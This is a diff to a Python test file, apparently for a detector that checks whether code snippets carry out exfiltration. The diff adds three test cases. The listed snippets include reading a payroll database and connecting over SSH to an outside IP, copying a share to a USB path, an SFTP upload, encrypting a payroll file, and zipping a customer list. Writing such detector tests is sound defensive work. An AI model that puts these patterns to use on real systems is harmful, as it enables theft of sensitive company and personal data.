@@ -296,6 +296,10 @@ def test_forms_near_the_new_ones_that_do_not_act(family, code):
     ("exfiltration", ("import paramiko\npayroll = open('payroll_database.db', 'rb').read()\nclient = paramiko.SSHClient()\n"
                      "client.connect('203.0.113.9', username='u', password='p')\n")),
     ("exfiltration", "import shutil\nsource_usb_path = '/path/to/usb/stick'\nshutil.copytree('/srv/share', source_usb_path)\n"),
+    ("exfiltration", "sftp = ssh.open_sftp()\nsftp.put(source_dir, destination_dir)\n"),
+    ("exfiltration", ("from cryptography.fernet import Fernet\nwith open('payroll_database.json', 'rb') as f:\n"
+                     "    blob = Fernet(key).encrypt(f.read())\n")),
+    ("exfiltration", "import zipfile\ndata = open('customer_list.csv', 'rb').read()\nzipfile.ZipFile('c.zip', 'w').writestr('c', data)\n"),
 ])
 def test_forms_in_frameworks_and_invented_libraries(family, code):
     assert does_what_was_asked(code, family), code
